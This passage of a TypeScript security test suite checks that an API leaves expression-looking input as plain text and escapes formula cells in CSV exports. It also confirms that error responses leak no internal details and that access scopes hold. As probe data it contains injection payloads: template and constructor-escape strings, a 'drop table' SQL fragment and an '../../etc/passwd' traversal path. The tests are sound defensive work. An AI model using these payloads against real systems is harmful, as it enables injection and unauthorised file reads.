      expect(() => loadAndCompile(dir), expression).toThrow(DefinitionInvalidError);
    }
  });

  it('SB-02 record data is never evaluated: expression-looking text stays text through formulas', async () => {
    for (const title of ['{{ $env.SECRET }}', '={{7*7}}', '${7*7}', "constructor.constructor('return process')()", 'CONCAT("a","b")', '=1+1']) {
      const res = await small.as('admin', 'POST', '/api/v1/deal', { body: { title } });
      expect(res.status).toBe(201);
      expect(res.body.data.echo, title).toBe(title);
    }
  });

  it('CS-01 export prefixes formula-leading text with \', leaves numbers alone, and raw=true gives raw values', async () => {
    const res = await small.as('admin', 'GET', `/api/v1/account/_export${q({ sort: 'id' })}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(String(res.body));
    const col = (name: string) => header.indexOf(name);
    const byName = rows.slice(0, names.length);
    expect(byName.map((r) => r[col('name')])).toEqual(names.map((n) => `'${n.trim()}`.replace(/^'plain/, 'plain')));
    expect(byName.every((r) => r[col('credit_limit')] === '-5.00')).toBe(true);
    expect(byName.every((r) => r[col('secret_note')] === "'=secret")).toBe(true);
    const raw = await small.as('admin', 'GET', `/api/v1/account/_export${q({ sort: 'id', raw: 'true' })}`);
    const [rawHeader, ...rawRows] = parseCsv(String(raw.body));
    expect(rawRows.slice(0, names.length).map((r) => r[rawHeader.indexOf('name')])).toEqual(names.map((n) => n.trim()));
    expect((await small.as('admin', 'GET', `/api/v1/account/_export${q({ raw: 'yes' })}`)).status).toBe(400);
    for (const [input, out] of [['\tcell', "'\tcell"], ['\rcell', "'\rcell"], ['=1', "'=1"], ['+1', "'+1"], ['-1', "'-1"], ['@x', "'@x"], ['1', '1'], ['a=1', 'a=1']]) {
      expect(escapeCsvCell(input)).toBe(out);
    }
  });

  it('CS-01 export respects the read scope, the export scope and hidden fields', async () => {
    const res = await small.as('exp', 'GET', '/api/v1/account/_export');
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(String(res.body));
    expect(header).not.toContain('secret_note');
    expect(String(res.body)).not.toContain('secret');
    const names2 = rows.map((r) => r[header.indexOf('name')]);
    expect(names2).toHaveLength(names.length); // own and grade A only
    expect(names2).not.toContain('grade B of exp');
    expect(names2).not.toContain('grade A of other');
    expect((await small.as('exp', 'GET', `/api/v1/account/_export${q({ fields: 'secret_note' })}`)).status).toBe(400);
    expect((await small.as('exp', 'GET', `/api/v1/account/_export${q({ filter: { secret_note: { startsWith: '=' } } })}`)).status).toBe(400);
    expect((await small.as('rep', 'GET', '/api/v1/account/_export')).status).toBe(403);
    expect((await small.as('rep', 'GET', '/api/v1/note/_export')).status).toBe(404);
  });
});

// ---------------------------------------------------------------------------------------------
// Error hygiene: no 4xx/5xx body tells how the server is built
// ---------------------------------------------------------------------------------------------

describe('error hygiene', () => {
  it('4xx answers are problem+json without stacks, SQL or file paths', async () => {
    const probes: [Who | null, string, string, unknown][] = [
      [null, 'GET', '/api/v1/account', undefined],
      ['rep1', 'GET', `/api/v1/deal${q({ filter: '{"title":' })}`, undefined],
      ['rep1', 'GET', `/api/v1/deal${q({ filter: { 'owner.password_hash': { eq: 'x' } } })}`, undefined],
      ['rep1', 'GET', `/api/v1/deal${q({ sort: 'title; drop table deal' })}`, undefined],
      ['rep1', 'GET', `/api/v1/deal/${deal.rep2}`, undefined],
      ['rep1', 'GET', '/api/v1/../../etc/passwd', undefined],
      ['rep1', 'PUT', `/api/v1/deal/${deal.rep1}`, { title: 'x' }],
      ['admin', 'POST', '/api/v1/account', { name: 'dup', code: 'R1-Account' }],
      ['admin', 'DELETE', `/api/v1/account/${acc.rep2}`, undefined],
      ['rep1', 'PATCH', `/api/v1/deal/${deal.rep1}`, { title: 'x', version: 1 }],
      ['rep1', 'POST', '/api/v1/deal', { title: 'x'.repeat(1_100_000) }],
      ['viewer', 'POST', '/api/v1/deal', { title: 'x' }],
      ['admin', 'GET', '/api/v1/deal?cursor=' + Buffer.from('{"s":"id","v":["abc"]}').toString('base64url'), undefined],
      ['admin', 'POST', '/api/v1/deal', { title: 'x', account: 1e20 }],
      ['admin', 'GET', `/api/v1/deal${q({ filter: { id: { eq: 1e300 } } })}`, undefined],
      ['admin', 'GET', `/api/v1/deal${q({ filter: { amount: { gt: 1e308 } } })}`, undefined],
      ['admin', 'GET', `/api/v1/deal${q({ filter: { created_at: { gt: '99999-01-01T00:00:00Z' } } })}`, undefined],
      ['admin', 'POST', '/api/v1/deal', { title: 'x', amount: '9'.repeat(40) }],
    ];
    for (const [who, method, path, body] of probes) {
      const res = who ? await f.as(who, method, path, body === undefined ? {} : { body }) : await f.api.request(method, path);
      expectCleanProblem(res, `${who} ${method} ${path.slice(0, 60)}`);
    }
    const stale = await f.as('rep1', 'PATCH', `/api/v1/deal/${deal.rep1}`, { body: { title: 'x' }, headers: { 'if-match': '"999"' } });
    expectCleanProblem(stale, 'stale If-Match');
    const raw = await f.api.request('POST', '/api/v1/deal', { raw: '{"title": "x",,}', headers: { 'content-type': 'application/json', authorization: `Bearer ${f.tokens.admin}` } });
    expectCleanProblem(raw, 'malformed JSON');
    const form = await f.api.request('POST', '/api/v1/deal', { raw: 'title=x', headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${f.tokens.admin}` } });
    expectCleanProblem(form, 'form body');
  });

  it('a database failure is a generic 500: no SQL, table names, driver codes, stack or paths', async () => {
    const rt = await createTestRuntime({ appDir: secureAppVariant({}) });
    const api = await startTestServer(rt);
    try {
      await rt.db.knex.schema.renameTable('note', 'note_moved_away');
      for (const [method, path, body] of [['GET', '/api/v1/note', undefined], ['POST', '/api/v1/note', { body: 'x' }], ['GET', `/api/v1/note${q({ filter: { body: { eq: 'x' } } })}`, undefined]] as const) {
        const res = await api.request(method, path, body ? { body } : {});
        expect(res.status, path).toBe(500);
        expectCleanProblem(res, `${method} ${path}`);
        expect(res.body.code).toBe('INTERNAL');
        expect(JSON.stringify(res.body)).not.toMatch(/note_moved_away|no such table|does not exist|SQLITE|42P01|errno/i);
      }
    } finally {
      await api.close();
      await rt.close();
    }
  });
});

// Cross-check: the role table above is the role files' meaning for the target record.
describe('the matrix table', () => {
  it('matches what the access layer explains for the target records', async () => {
    for (const who of WHO) {
      for (const ent of ['account', 'deal', 'note'] as Ent[]) {
        const res = await f.as(who, 'GET', `/api/v1/_access/explain${q({ entity: ent, id: String(target(ent)) })}`);
        if (ROLE_TABLE[who][ent].read === false) {
          // an entity without any grant answers like one that does not exist (issue: invisible entities)
          expect(res.status, `${who} ${ent}`).toBe(404);
          continue;
        }
        expect(res.status).toBe(200);
        const grants = Object.fromEntries(res.body.data.actions.map((a: { action: Act; allowed: boolean | 'scoped' }) => [a.action, a.allowed]));
        for (const act of ['read', 'create', 'update', 'delete', 'export'] as Act[]) {
          const mine = ROLE_TABLE[who][ent][act];
          const visible = res.body.data.record.visible;
          if (!visible) expect(grants[act], `${who} ${ent} ${act}`).toBe(false);
          else expect(mine === false ? grants[act] === false : grants[act] !== false, `${who} ${ent} ${act}: ${grants[act]}`).toBe(true);
        }
      }
    }
  });
});

